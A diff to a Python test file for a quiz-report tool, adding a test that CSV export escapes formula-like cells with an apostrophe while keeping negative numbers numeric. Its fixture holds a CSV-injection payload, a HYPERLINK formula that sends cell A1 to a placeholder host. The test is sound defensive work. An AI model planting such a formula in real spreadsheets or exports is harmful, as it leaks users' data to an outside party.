@@ -10,7 +10,7 @@ import pytest
 from db.learners import ensure_learner
 from db.progress import open_progress
 from quiz.answers import record_answer
-from quiz.report import build_report, read_learners
+from quiz.report import LearnerResult, build_report, read_learners
 
 # learner -> [(question, correct)] in the order answered
 HISTORIES = {
@@ -78,3 +78,17 @@ def test_file_names_with_uri_characters_are_read(files, tmp_path):
     files[0].rename(renamed)
     assert [(r.name, r.first_attempts) for r in read_learners(renamed)] == [
         ("Ana", {"q1": True, "q2": True, "q3": True})]
+
+
+def test_csv_cells_from_learner_files_and_packs_never_run_as_formulas(files):
+    """Learner names come from someone else's file: ``=HYPERLINK(…)`` must stay text in a spreadsheet."""
+    learners = [LearnerResult("a.db", '=HYPERLINK("http://x.invalid/?"&A1,"Click")', {"q1": True, "@q2": False}),
+                LearnerResult("b.db", "Ben", {"q1": False, "@q2": True})]
+    report = build_report(learners, topic_of=lambda q: "+topic")
+    rows = list(csv.DictReader(io.StringIO(report.to_csv())))
+    learner = next(r for r in rows if r["kind"] == "learner" and r["id"] != "Ben")
+    assert learner["id"] == "'" + learners[0].name
+    assert {r["id"] for r in rows if r["kind"] == "question"} == {"q1", "'@q2"}
+    assert {r["topic"] for r in rows if r["kind"] != "learner"} == {"'+topic"}
+    # numbers stay numbers: a negative discrimination is not mistaken for a formula
+    assert {r["discrimination"] for r in rows if r["kind"] == "question"} == {"-1.0000"}
